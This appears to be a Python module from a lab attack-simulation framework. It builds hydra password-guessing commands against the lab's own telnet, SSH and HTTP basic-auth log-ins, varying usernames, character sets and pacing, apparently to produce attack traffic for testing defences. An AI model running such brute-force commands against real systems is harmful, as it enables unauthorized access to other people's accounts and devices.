"""Guessing passwords of the lab's own log-ins with hydra."""

from __future__ import annotations

from emtc_lab.attacks.base import Aim, attack


def _hydra(aim: Aim, service: str, *path: str) -> list[str]:
    # -x: words of this form, more than will be tried in the time given; -I: no pause for an old session.
    words = ["-l", aim.rng.choice(["admin", "root", "service"]), "-x", aim.rng.choice(["4:4:1", "3:3:a", "4:4:a"])]
    pace = ["-t", str(aim.rng.randint(2, 4))] if aim.loud else ["-t", "1", "-c", str(aim.rng.randint(3, 6))]
    return ["hydra", "-q", "-I", *words, *pace, aim.victim, service, *path]


@attack("telnet-brute-force", "brute force", "lan", "device", needs=("legacy-console",), ok=(0, 255))
def telnet(aim: Aim) -> list[str]:
    """A telnet console."""
    return _hydra(aim, "telnet")


@attack("ssh-brute-force", "brute force", "outside", "device", needs=("linux-box",), ok=(0, 255))
def ssh(aim: Aim) -> list[str]:
    """An SSH server, from the internet."""
    return _hydra(aim, "ssh")


@attack("http-brute-force", "brute force", "device", "device", needs=("smart-plug", "legacy-console"), ok=(0, 255))
def http(aim: Aim) -> list[str]:
    """HTTP basic authentication, from a taken-over device."""
    return _hydra(aim, "http-get", "/admin")
